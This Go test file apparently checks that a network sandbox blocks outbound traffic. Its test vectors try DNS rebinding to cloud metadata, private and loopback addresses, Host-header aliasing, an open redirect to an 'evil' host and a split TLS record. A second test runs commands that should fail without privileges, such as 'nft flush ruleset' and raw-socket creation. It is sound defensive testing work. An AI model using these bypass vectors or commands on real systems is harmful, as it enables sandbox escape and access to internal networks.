	{"a name that leads to metadata", tcpName("meta.example.com", 80), "meta.example.com:80", true},
	{"a name that leads to a private network", tcpName("lan.example.com", 80), "lan.example.com:80", true},
	{"a name that leads to a mapped address", tcpName("mapped.example.com", 80), "mapped.example.com:80", true},
	{"a name that leads to loopback", tcpName("loop.example.com", 7700), "loop.example.com:7700", true},
	{"a name that leads to a private network on the second look", again("rebind.example.com", 80, lanAddr), "rebind.example.com:80", true},
	{"a name that leads to the box on the second look", again("rebind.example.com", 7700, boxAddr), "rebind.example.com:7700", true},
	{"a name that leads to the box's v6 on the second look", again("rebind.example.com", 7700, "2001:db8::2"), "rebind.example.com:7700", true},
	{"a name that leads to metadata on the second look", again("rebind.example.com", 80, metaAddr), "rebind.example.com:80", true},
	{"a name that leads to an address that the box has just got", func(p program) error {
		up, err := vnl.LinkByName("up0")
		if err != nil {
			p.t.Fatal(err)
		}
		a, err := vnl.ParseAddr(newAddr + "/32")
		if err != nil {
			p.t.Fatal(err)
		}
		// Whatever is remembered of the box's addresses is fresh.
		if _, err := p.connect("rebind.example.com", 80, false); err != nil {
			p.t.Fatal(err)
		}
		if err := vnl.AddrAdd(up, a); err != nil {
			p.t.Fatal(err)
		}
		defer vnl.AddrDel(up, a) //nolint:errcheck // the next test tells
		return again("rebind.example.com", 7700, newAddr)(p)
	}, "rebind.example.com:7700", true},
	{"a name that another name stands for, by that one's Host", func(p program) error {
		theNet(p.t).alias("rebind.example.com", evil)
		c, err := p.connect("rebind.example.com", 80, false)
		if err != nil {
			return err
		}
		_, err = says(c, "GET / HTTP/1.1\r\nHost: "+evil+"\r\n\r\n")
		return err
	}, "rebind.example.com:80", true},
	{"a name that stands for another one in a private network", func(p program) error {
		theNet(p.t).alias("rebind.example.com", "lan.example.com")
		return tcpName("rebind.example.com", 80)(p)
	}, "rebind.example.com:80", true},
	{"a redirect", func(p program) error {
		c, err := p.connect("example.com", 80, false)
		if err != nil {
			return err
		}
		out, err := says(c, "GET /?redirect=http://"+evil+"/ HTTP/1.0\r\nHost: example.com\r\n\r\n")
		if err != nil || !strings.Contains(out, "Location: http://"+evil) {
			p.t.Fatalf("no redirect: %q, %v", out, err)
		}
		_, err = p.lookup(evil, false)
		return err
	}, evil + ":53", true},
}

// newAddr is no address of the box at first.
const newAddr = "203.0.113.77"

func tcpName(name string, port uint16) func(program) error {
	return func(p program) error {
		c, err := p.connect(name, port, false)
		if err != nil {
			return err
		}
		_, err = says(c, "GET / HTTP/1.0\r\nX: evil\r\n\r\n")
		return err
	}
}

// splitter writes its first TLS record as two.
type splitter struct {
	net.Conn
	done bool
}

func (s *splitter) Write(b []byte) (int, error) {
	if s.done {
		return s.Conn.Write(b)
	}
	s.done = true
	half := 5 + (len(b)-5)/2
	first := append([]byte{b[0], b[1], b[2], 0, 0}, b[5:half]...)
	binary.BigEndian.PutUint16(first[3:], uint16(half-5))
	second := append([]byte{b[0], b[1], b[2], 0, 0}, b[half:]...)
	binary.BigEndian.PutUint16(second[3:], uint16(len(b)-half))
	_, err := s.Conn.Write(append(first, second...))
	return len(b), err
}

// echList is a configuration for an encrypted hello behind a public name.
func echList(public string) []byte {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		panic(err)
	}
	body := []byte{1, 0, 0x20, 0, 32}
	body = append(body, key.PublicKey().Bytes()...)
	body = append(body, 0, 4, 0, 1, 0, 1, 0, byte(len(public)))
	body = append(append(body, public...), 0, 0)
	conf := append([]byte{0xfe, 0x0d, 0, byte(len(body))}, body...)
	return append([]byte{0, byte(len(conf))}, conf...)
}

func theNet(t testing.TB) *internet {
	i, err := theInternet()
	if err != nil {
		t.Fatal(err)
	}
	return i
}

// TestNothingGetsOut tries every vector from a task without hosts, and from one with
// hosts. The internet's own record is the proof.
func TestNothingGetsOut(t *testing.T) {
	ln, err := net.Listen("unix", abstractName)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	reached := theBox(t)

	for _, hosts := range [][]string{nil, {"example.com", "ported.example.com:443", "box.example.com", "exact.example.com:7700", "meta.example.com:80", "lan.example.com", "mapped.example.com", "loop.example.com:7700", "rebind.example.com"}} {
		for _, v := range vectors {
			if v.allowed && hosts == nil {
				continue
			}
			t.Run(fmt.Sprintf("%d hosts/%s", len(hosts), v.name), func(t *testing.T) {
				i := outside(t)
				i.name("example.com", webAddr, webAddr6)
				i.name("ported.example.com", webAddr)
				i.name("box.example.com", boxAddr)
				i.name("exact.example.com", boxAddr)
				i.name("meta.example.com", metaAddr)
				i.name("lan.example.com", lanAddr)
				i.name("mapped.example.com", "64:ff9b::a09:909")
				i.name("loop.example.com", "127.0.0.1")
				i.name("rebind.example.com", webAddr)
				i.name(evil, webAddr, webAddr6)
				i.name("evil.example.com", webAddr)
				i.settled(t)
				s, blocked := space(t, hosts...)
				if err := v.try(program{t, s}); err == nil {
					t.Error("it got through")
				} else if errors.Is(err, syscall.ETIMEDOUT) || strings.Contains(err.Error(), "i/o timeout") {
					t.Errorf("it waited: %v", err)
				}
				want := []string{v.blocked}
				if v.blocked == "" {
					want = nil
				}
				// What got through is told by nobody, so there is nothing to wait for.
				if !t.Failed() && !eventually(func() bool { return len(blocked()) >= len(want) }) || !slices.Equal(blocked(), want) {
					t.Errorf("told %q, want %q", blocked(), want)
				}
				i.settled(t)
				for _, r := range i.record() {
					through := strings.HasPrefix(r, "packet udp "+netAddr+":53") || strings.HasPrefix(r, "dns ") && strings.HasSuffix(r, "example.com") && !strings.Contains(r, "evil")
					if v.allowed && (through || r == "packet tcp "+webAddr+":80" || r == "packet tcp "+webAddr+":443" || strings.Contains(r, webAddr6) || strings.HasPrefix(r, "http example.com /")) {
						continue
					}
					t.Errorf("the internet saw %q", r)
				}
				if raw := i.bytes(); strings.Contains(raw, "evil") && v.name != "a redirect" {
					t.Errorf("the internet heard %.300q", raw)
				}
				reached(t)
			})
		}
	}
}

// TestUnprivileged holds what needs the rights that a program has not.
func TestUnprivileged(t *testing.T) {
	i := outside(t)
	s, _ := space(t, "example.com")
	i.settled(t)
	for _, c := range []string{
		"ping -c1 -W1 " + netAddr,
		"python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)'",
		"python3 -c 'import socket; socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_UDP)'",
		"python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)'",
		"ip link add name x type dummy",
		"ip route add 10.0.0.0/8 dev lo",
		"ip addr add 10.0.0.1/8 dev lo",
		"ip link set lo down",
		"nft flush ruleset",
		"python3 -c 'import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, 36, 1)'", // SO_MARK
		"sysctl -w net.ipv4.ip_forward=1",
	} {
		if code, out := in(t, s, nil, c); code == 0 {
			t.Errorf("%s: exit 0, %q", c, out)
		}
	}
	i.settled(t)
	if r := i.record(); len(r) > 0 {
		t.Errorf("the internet saw %q", r)
	}
}
